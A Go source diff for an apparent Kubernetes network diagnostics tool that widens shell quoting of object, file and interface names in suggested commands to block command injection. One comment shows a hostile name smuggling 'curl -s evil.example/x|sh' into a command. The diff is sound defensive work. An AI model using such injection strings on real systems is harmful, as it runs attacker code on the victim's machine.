@@ -8,6 +8,7 @@ import (
 
 	"github.com/netmortem/netmortem/analyzer"
 	"github.com/netmortem/netmortem/internal/shq"
+	"github.com/netmortem/netmortem/model"
 )
 
 // A finding's Decide and the code spans of its Fix are commands the reader
@@ -17,7 +18,7 @@ import (
 // named "etcd-1$(curl -s evil.example/x|sh)" would run the payload when its
 // command is pasted. pasteSafe is the last line of defence: each name of a
 // finding (its Subject, its string Facts, the objects and files of its
-// Evidence) that holds a character sh reads as syntax is quoted (package
+// Evidence) or of the bundle (snapshotNames) that holds a character sh reads as syntax is quoted (package
 // shq) wherever it appears in Decide or in a code span of Fix. Names of
 // ordinary characters are left as they are, so nothing changes for a
 // bundle Kubernetes would accept.
@@ -26,9 +27,10 @@ import (
 // which splits a word but runs nothing) and the line breaks.
 const shellSyntax = "$`\\\"'|&;<>()*?[]{}~#!\n\r"
 
-// pasteSafe returns f with the names in its commands quoted for sh.
-func pasteSafe(f analyzer.Finding) analyzer.Finding {
-	names := hostileNames(f)
+// pasteSafe returns f with the names in its commands quoted for sh: its
+// own (hostileNames) and extra, names of the bundle (snapshotNames).
+func pasteSafe(f analyzer.Finding, extra ...string) analyzer.Finding {
+	names := hostileNames(f, extra...)
 	if len(names) == 0 {
 		return f
 	}
@@ -57,12 +59,12 @@ func pasteSafe(f analyzer.Finding) analyzer.Finding {
 // hostileNames returns the names of f that hold shell syntax, longest
 // first, so that a name is replaced before the shorter names inside it.
 // An object "Pod ns/name" gives itself, "ns/name", "ns" and "name".
-func hostileNames(f analyzer.Finding) []string {
+func hostileNames(f analyzer.Finding, extra ...string) []string {
 	seen := map[string]bool{}
 	var out []string
 	add := func(s string) {
-		if s == "" || seen[s] || !strings.ContainsAny(s, shellSyntax) {
-			return
+		if len(s) < 2 || seen[s] || !strings.ContainsAny(s, shellSyntax) {
+			return // one character alone cannot run a command
 		}
 		seen[s] = true
 		out = append(out, s)
@@ -81,7 +83,8 @@ func hostileNames(f analyzer.Finding) []string {
 	for _, v := range f.Subject {
 		addObject(v)
 	}
-	for _, v := range f.Facts {
+	var fact func(v any)
+	fact = func(v any) {
 		switch v := v.(type) {
 		case string:
 			addObject(v)
@@ -89,13 +92,31 @@ func hostileNames(f analyzer.Finding) []string {
 			for _, s := range v {
 				addObject(s)
 			}
+		case []any:
+			for _, x := range v {
+				fact(x)
+			}
+		case map[string]any:
+			for _, x := range v {
+				fact(x)
+			}
+		case map[string]string:
+			for _, x := range v {
+				addObject(x)
+			}
 		case fmt.Stringer:
 			addObject(v.String())
 		}
 	}
+	for _, v := range f.Facts {
+		fact(v)
+	}
 	for _, e := range f.Evidence {
 		addObject(e.Pos.Object)
 		add(e.Pos.File)
+	}
+	for _, s := range extra {
+		add(s)
 	}
 	slices.SortFunc(out, func(a, b string) int {
 		return cmp.Or(cmp.Compare(len(b), len(a)), strings.Compare(a, b))
@@ -155,4 +176,51 @@ func atomAt(s string, atoms []string) string {
 		}
 	}
 	return ""
+}
+
+// snapshotNames are the names in snap that a rule may write into a
+// command without recording them in its finding: the Kubernetes objects'
+// names and namespaces, the Pods' containers, the network interfaces and
+// their masters, the nodes, the input files. Only those holding shell
+// syntax are kept: the others are never quoted.
+func snapshotNames(snap *model.Snapshot) []string {
+	if snap == nil {
+		return nil
+	}
+	seen := map[string]bool{}
+	var out []string
+	add := func(ss ...string) {
+		for _, s := range ss {
+			if s != "" && !seen[s] && strings.ContainsAny(s, shellSyntax) {
+				seen[s] = true
+				out = append(out, s)
+			}
+		}
+	}
+	k := &snap.Kube
+	for _, o := range k.Pods {
+		add(o.Name, o.Namespace, o.Spec.NodeName)
+		for _, c := range o.Spec.Containers {
+			add(c.Name)
+		}
+	}
+	for _, o := range k.Services {
+		add(o.Name, o.Namespace)
+	}
+	for _, o := range k.Namespaces {
+		add(o.Name)
+	}
+	for _, o := range k.Nodes {
+		add(o.Name)
+	}
+	for _, o := range k.DaemonSets {
+		add(o.Name, o.Namespace)
+	}
+	for _, l := range snap.Links {
+		add(l.Dev, l.Master, l.Node)
+	}
+	for _, in := range snap.Inputs {
+		add(in.Path, in.Node)
+	}
+	return out
 }
